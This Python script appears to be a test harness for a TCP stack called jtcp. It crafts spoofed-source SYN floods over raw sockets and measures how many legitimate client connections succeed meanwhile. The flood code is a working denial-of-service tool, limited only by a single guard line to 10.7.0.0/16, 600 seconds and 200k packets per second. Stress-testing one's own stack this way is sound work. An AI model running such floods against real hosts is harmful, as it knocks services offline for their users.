#!/usr/bin/env python3
"""SYN flood from spoofed sources, and a legitimate client measured during it (for jtcp's tests).

Run inside a network namespace that routes to jtcp (needs root: raw sockets). Two modes:

  synflood.py flood  --dst 10.7.0.2 --ports 80 --rate 20000 --seconds 10 --sources 256
      SYNs from --sources addresses in 10.7.200.0/24.. (spoofed: no interface has them, so the
      kernel drops the SYN-ACKs that come back), random source ports and sequence numbers, from a
      precomputed batch, paced in 1 ms steps. Prints "sent N in S s".

  synflood.py client --dst 10.7.0.2 --ports 80,7 --seconds 10 --interval 0.05
      One connection after another, round-robin over the ports, each given 1 s to connect and to
      get an answer (an HTTP/1.0 GET on 80, an echo elsewhere). Prints one line per port and a total:
      "port P: ok/attempts" and "total: ok/attempts = R %".

Bounded: every loop ends after --seconds; nothing is sent outside --dst.
"""
import argparse
import random
import socket
import struct
import sys
import time


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def syn_packet(src, dst, sport, dport, seq):
    # MSS 1460, SACK-permitted, timestamps, NOP, window scale 7: what Linux sends.
    tsval = random.getrandbits(32)
    options = struct.pack("!BBH", 2, 4, 1460) + struct.pack("!BB", 4, 2) + struct.pack("!BBII", 8, 10, tsval, 0) \
        + struct.pack("!BBBB", 1, 3, 3, 7)
    offset = (20 + len(options)) // 4
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, offset << 4, 0x02, 64240, 0, 0) + options
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(tcp))
    csum = checksum(pseudo + tcp)
    tcp = tcp[:16] + struct.pack("!H", csum) + tcp[18:]
    total = 20 + len(tcp)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, total, random.getrandbits(16), 0, 64, 6, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + tcp


def flood(args):
    ports = [int(p) for p in args.ports.split(",")]
    sources = ["10.7.%d.%d" % (200 + i // 256, i % 256) for i in range(args.sources)]
    rnd = random.Random(args.seed)
    random.seed(args.seed)
    batch = [syn_packet(rnd.choice(sources), args.dst, rnd.randint(1024, 65535), ports[i % len(ports)],
                        rnd.getrandbits(32)) for i in range(args.batch)]
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.SOL_IP, socket.IP_HDRINCL, 1)
    target = (args.dst, 0)
    start = time.monotonic()
    end = start + args.seconds
    sent = 0
    dropped = 0
    i = 0
    step = 0.001
    per_step = args.rate * step
    owed = 0.0
    next_t = start
    while True:
        now = time.monotonic()
        if now >= end:
            break
        if now < next_t:
            time.sleep(next_t - now)
            continue
        # Catch up on whole steps missed, but never more than 50 ms of packets at once.
        steps = min(int((now - next_t) / step) + 1, 50)
        next_t += steps * step
        owed += per_step * steps
        while owed >= 1:
            try:
                s.sendto(batch[i], target)
                sent += 1
            except OSError:
                dropped += 1  # ENOBUFS: the device queue is full
            i = (i + 1) % len(batch)
            owed -= 1
    elapsed = time.monotonic() - start
    print("sent %d in %.2f s (%.0f/s), %d refused by the kernel" % (sent, elapsed, sent / elapsed, dropped))
    sys.stdout.flush()


def one(dst, port, budget):
    deadline = time.monotonic() + budget
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    try:
        s.settimeout(budget)
        s.connect((dst, port))
        if port == 80:
            s.sendall(b"GET /bytes/16 HTTP/1.0\r\n\r\n")
            want = b"HTTP/1."
        else:
            want = b"ping %d\n" % port
            s.sendall(want)
        got = b""
        while len(got) < len(want):
            left = deadline - time.monotonic()
            if left <= 0:
                return False
            s.settimeout(left)
            chunk = s.recv(4096)
            if not chunk:
                break
            got += chunk
        return got[:len(want)] == want and time.monotonic() <= deadline
    except OSError:
        return False
    finally:
        s.close()


def client(args):
    ports = [int(p) for p in args.ports.split(",")]
    ok = {p: 0 for p in ports}
    tries = {p: 0 for p in ports}
    slow = []
    end = time.monotonic() + args.seconds
    n = 0
    while time.monotonic() < end and n < args.max:
        p = ports[n % len(ports)]
        n += 1
        t0 = time.monotonic()
        good = one(args.dst, p, args.budget)
        tries[p] += 1
        if good:
            ok[p] += 1
        else:
            slow.append("%d@%.1fs" % (p, t0 - (end - args.seconds)))
        rest = args.interval - (time.monotonic() - t0)
        if rest > 0:
            time.sleep(rest)
    for p in ports:
        print("port %d: %d/%d" % (p, ok[p], tries[p]))
    total_ok = sum(ok.values())
    total = sum(tries.values())
    print("total: %d/%d = %.1f %%" % (total_ok, total, 100.0 * total_ok / max(total, 1)))
    if slow:
        print("failed: " + " ".join(slow[:20]))
    sys.stdout.flush()


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("mode", choices=["flood", "client"])
    ap.add_argument("--dst", default="10.7.0.2")
    ap.add_argument("--ports", default="80")
    ap.add_argument("--rate", type=float, default=20000)
    ap.add_argument("--seconds", type=float, default=10)
    ap.add_argument("--sources", type=int, default=256)
    ap.add_argument("--batch", type=int, default=8192)
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--interval", type=float, default=0.05)
    ap.add_argument("--budget", type=float, default=1.0)
    ap.add_argument("--max", type=int, default=100000)
    args = ap.parse_args()
    if args.seconds > 600 or args.rate > 200000 or not args.dst.startswith("10.7."):
        sys.exit("refusing: at most 600 s, 200k/s, and only to 10.7.0.0/16")
    flood(args) if args.mode == "flood" else client(args)


if __name__ == "__main__":
    main()
